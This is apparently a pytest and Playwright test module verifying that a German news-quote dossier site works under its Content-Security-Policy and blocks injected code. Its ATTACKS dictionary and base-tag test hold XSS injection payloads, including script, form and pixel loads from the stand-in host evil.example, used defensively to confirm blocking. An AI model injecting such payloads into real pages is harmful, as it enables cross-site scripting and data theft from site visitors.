"""The Content-Security-Policy: every page works under it, and injected code does not."""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import material
import pytest
from playwright.sync_api import Browser, Page, Route, expect

from builder.publish.policy import HEADERS, POLICY
from tests.support.browser import PHONE, opened, page_kinds, serve
from tests.support.site import ROOT, Site

ARTICLE = "artikel/telefongespraech/"
UNFOLD = "for (const details of document.querySelectorAll('details')) details.open = true"
REPORT = """addEventListener('securitypolicyviolation', event =>
    console.error(`blocked ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));"""


@dataclass
class Address:
    """Where a site is served, and the policy that its pages run under."""

    url: str
    errors: list[str] = field(default_factory=list)

    @property
    def at_root(self) -> bool:
        """Whether the site is not below a path."""
        return self.url.count("/") == 3

    @contextmanager
    def page(
        self, browser: Browser, path: str, *arguments: object, **options: object
    ) -> Iterator[Page]:
        """Open a page, and collect messages of its console, its scripts and the policy."""
        with opened(browser, "about:blank", *arguments, **options) as page:  # type: ignore[arg-type]
            page.on(
                "console",
                lambda m: self.errors.append(m.text) if m.type in ("error", "warning") else None,
            )
            page.on("pageerror", lambda error: self.errors.append(str(error)))
            page.add_init_script(REPORT)
            page.goto(self.url + path)
            yield page


def sent(site: Site) -> dict[str, str]:
    """Return the headers that `_headers` sets for every file."""
    first, *lines = (site.folder / "_headers").read_text("utf-8").split("\n")
    assert first == "/*"
    pairs = (line.strip().partition(": ") for line in lines)
    return {name: value for name, _, value in pairs if name in HEADERS}


@pytest.fixture(scope="module", params=["meta", "header"])
def site_address(request: pytest.FixtureRequest, phone_call_site: Site) -> Iterator[str]:
    """The site at the root of a plain server; then below a path, with the headers."""
    plain = request.param == "meta"
    under, headers = ("/", {}) if plain else ("/presse/dossier/", sent(phone_call_site))
    with serve(phone_call_site.folder, under, headers) as url:
        yield url


@pytest.fixture
def site(site_address: str) -> Iterator[Address]:
    """The site; the test fails if there was a message."""
    address = Address(site_address)
    yield address
    assert address.errors == []


def test_every_kind_of_page_runs_under_the_policy(
    browser: Browser, site: Address, phone_call_site: Site
) -> None:
    paths = set(page_kinds(phone_call_site).values())
    if not site.at_root:
        paths.remove("404.html")  # below a path, it needs a `site_url`
    with site.page(browser, "") as page:
        for path in paths:
            page.emulate_media(color_scheme="light")
            page.goto(site.url + path)
            page.evaluate(UNFOLD)
            page.emulate_media(media="print")
            page.emulate_media(media="screen", color_scheme="dark")


def test_the_search_runs_under_the_policy(browser: Browser, site: Address) -> None:
    with site.page(browser, "themen/") as page:
        page.keyboard.press("/")
        page.get_by_role("combobox", name="Suche", exact=True).fill("praktikabel")
        dialog = page.get_by_role("dialog")
        options = dialog.get_by_role("listbox", name="Treffer").get_by_role("option")
        expect(options.first).to_be_visible()
        dialog.get_by_role("button", name="Zitate").click()
        dialog.get_by_text("Nach Akteur oder Thema filtern").click()
        dialog.get_by_label("Akteur", exact=True).select_option("Donald Trump")
        expect(options).to_have_count(1)
        options.first.click()
        expect(page.locator(":target")).to_have_text("Ich halte das nicht für praktikabel")


def test_cards_and_layers_run_under_the_policy(browser: Browser, site: Address) -> None:
    with site.page(browser, "zitate/") as page:
        page.locator(".quote__speaker a").first.hover()
        expect(page.get_by_role("tooltip")).to_be_visible()
    with site.page(browser, ARTICLE) as page:
        page.get_by_text("ändern", exact=True).click()
        page.get_by_role("checkbox", name="wörtliche Zitate", exact=True).uncheck()
        page.keyboard.press("j")
        page.get_by_role("button", name="nächste Stelle").click()
        expect(page.locator(".reader__mark")).to_be_visible()


def test_filters_run_under_the_policy(browser: Browser, site: Address) -> None:
    with site.page(browser, "zitate/") as page:
        page.locator(".filters").get_by_label("Akteur").select_option("kreml")
        expect(page.locator(".filters__status")).to_contain_text("von")


def test_the_menu_of_a_phone_runs_under_the_policy(browser: Browser, site: Address) -> None:
    with site.page(browser, "", PHONE) as page:
        page.get_by_role("button", name="Menü").click()
        page.locator(".md-nav--primary").get_by_role("link", name="Zitate").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Zitate")


def test_colours_are_chosen_and_kept_under_the_policy(browser: Browser, site: Address) -> None:
    with site.page(browser, "") as page:
        body = page.locator("body")
        page.locator("label[title='Dunkle Ansicht']").click()
        expect(body).to_have_attribute("data-md-color-scheme", "slate")
        page.goto(site.url + ARTICLE)
        expect(body).to_have_attribute("data-md-color-scheme", "slate")
        page.locator("label[title='Helle Ansicht']").click()
        expect(body).to_have_attribute("data-md-color-scheme", "default")


@pytest.mark.parametrize("chosen", ["nothing", "light"])
def test_the_colours_are_right_before_our_script_has_loaded(
    browser: Browser, phone_call_url: str, chosen: str
) -> None:
    with opened(browser, phone_call_url, scheme="dark") as page:
        if chosen == "light":
            page.locator("label[title='Helle Ansicht']").click()
        page.route("**/dossier.js", lambda route: route.abort())
        page.goto(phone_call_url + ARTICLE)
        wanted = {"nothing": "slate", "light": "default"}[chosen]
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", wanted)


def test_a_page_works_without_local_storage(browser: Browser, phone_call_url: str) -> None:
    address = Address(phone_call_url)
    with address.page(browser, "") as page:
        page.add_init_script(
            "Object.defineProperty(window, 'localStorage', {get() { throw new Error('denied') }})"
        )
        page.reload()
        page.locator("label[title='Dunkle Ansicht']").click()
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert address.errors == []


def test_a_page_can_be_read_without_a_server(browser: Browser, phone_call_site: Site) -> None:
    with opened(browser, (phone_call_site.folder / ARTICLE / "index.html").as_uri()) as page:
        expect(page.locator("h1")).to_be_visible()
        expect(page.locator(".md-content")).to_have_css("font-family", re.compile("Newsreader"))
        expect(page.get_by_role("button", name="Suchen")).to_be_visible()


ATTACKS = {
    "script": "<script>hacked = true</script>",
    "handler": "<img src='/no-such-image.png' onerror='hacked = true'>",
    "link": "<a id='attack' href='javascript:void(hacked = true)'>x</a>",
    "foreign script": "<script src='https://evil.example/hack.js'></script>",
    "data script": "<script src='data:text/javascript,hacked=true'></script>",
    "frame": "<iframe srcdoc='<script>parent.hacked = true</script>'></iframe>",
    "form": "<form action='https://evil.example/'><button id='attack'>x</button></form>",
    "image": "<img src='https://evil.example/pixel.png'>",
    "style": "<style>body { background: url(https://evil.example/pixel.png) }</style>",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_injected_code_does_nothing(browser: Browser, phone_call_url: str, attack: str) -> None:
    foreign: list[str] = []

    def served(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(
            response=answer, body=answer.text().replace("</body>", f"{ATTACKS[attack]}</body>")
        )

    def elsewhere(route: Route) -> None:
        foreign.append(route.request.url)
        route.fulfill(body="hacked = true", content_type="text/javascript")

    with opened(browser, "about:blank") as page:
        page.add_init_script(REPORT)
        page.route(phone_call_url, served)
        page.route("https://evil.example/**", elsewhere)
        with page.expect_console_message(lambda message: message.text.startswith("blocked ")):
            page.goto(phone_call_url)
            page.evaluate("document.getElementById('attack')?.click()")
        assert page.evaluate("typeof hacked") == "undefined"
    assert foreign == []


def test_an_injected_base_does_not_redirect_links(browser: Browser, phone_call_url: str) -> None:
    def served(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace("<link ", "<base href='https://evil.example/'><link ", 1)
        route.fulfill(response=answer, body=body)

    with opened(browser, "about:blank") as page:
        page.route(phone_call_url, served)
        page.goto(phone_call_url)
        assert page.evaluate("document.baseURI") == phone_call_url
        assert (
            page.locator(".md-nav__link[href]")
            .last.evaluate("a => a.href")
            .startswith(phone_call_url)
        )


def test_the_policy_is_the_first_element_of_the_head(phone_call_site: Site) -> None:
    for path, document in phone_call_site.pages.items():
        first = document.xpath("/html/head/*")[0]
        assert first.attrib == {"http-equiv": "Content-Security-Policy", "content": POLICY}, path
    assert "404.html" in phone_call_site.pages


def test_no_page_has_inline_scripts_or_styles(phone_call_site: Site) -> None:
    for path, document in phone_call_site.pages.items():
        scripts = document.xpath(
            "//script[not(@src)][not(@type='application/json')][not(@type='application/ld+json')]"
        )
        assert not scripts + document.xpath(
            "//style | //@style | //@*[starts-with(name(), 'on')]"
        ), path


def test_the_policy_allows_nothing_unsafe() -> None:
    assert "unsafe-inline" not in HEADERS["Content-Security-Policy"]
    assert "'unsafe-eval'" not in HEADERS["Content-Security-Policy"]
    assert "http" not in HEADERS["Content-Security-Policy"]


def test_our_script_defines_all_names_that_the_theme_s_script_expects() -> None:
    theme = Path(material.__file__).parent / "templates/assets/javascripts"
    bundle = next(theme.glob("bundle.*.js")).read_text("utf-8")
    ours = (ROOT / "overrides/assets/javascripts/before-paint.js").read_text("utf-8")
    assert set(re.findall(r"\b__md_\w+", bundle)) <= set(re.findall(r"window\.(__md_\w+) =", ours))
